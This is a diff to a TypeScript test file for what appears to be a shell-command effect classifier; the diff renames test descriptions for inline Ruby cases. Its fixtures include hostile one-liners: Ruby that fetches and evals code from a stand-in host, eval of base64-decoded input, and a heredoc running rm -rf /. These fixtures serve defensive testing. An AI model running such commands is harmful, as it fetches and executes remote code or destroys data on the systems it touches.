@@ -100,7 +100,7 @@ const opaque: readonly string[] = [
 ];
 
 describe('inline Ruby', () => {
-	it.each(Object.entries(table))('%s', (code, expected) => {
+	it.each(Object.entries(table))('has exactly the expected effects: %s', (code, expected) => {
 		expect(effectsOf(`ruby -e ${quoted(code)}`)).toEqual([...expected].sort());
 	});
 
@@ -120,7 +120,7 @@ describe('inline Ruby', () => {
 		['require "open-uri"; eval(URI.open("https://e.example/x").read)', 'fetched code'],
 		['require "net/http"; eval Net::HTTP.get(URI("http://e.example/x"))', 'fetched code'],
 		['require "base64"; eval(Base64.decode64(ARGV[0]))', 'decoded code'],
-	])('is forbidden: %s', (code, expected) => {
+	])('has a forbidden effect: %s', (code, expected) => {
 		expect(effectsOf(`ruby -e ${quoted(code)}`)).toContain(expected);
 	});
 
@@ -131,7 +131,7 @@ describe('inline Ruby', () => {
 		["ruby -r./x -e 'puts 1'", ['exec x.rb']],
 		["ruby <<'EOF'\nsystem('rm -rf /')\nEOF", ['delete / recursive']],
 		['ruby -e "$X"', ['opaque']],
-	])('%s', (command, expected) => {
+	])('has the expected effects in a whole command: %s', (command, expected) => {
 		expect(effectsOf(command)).toEqual([...expected].sort());
 	});
 });
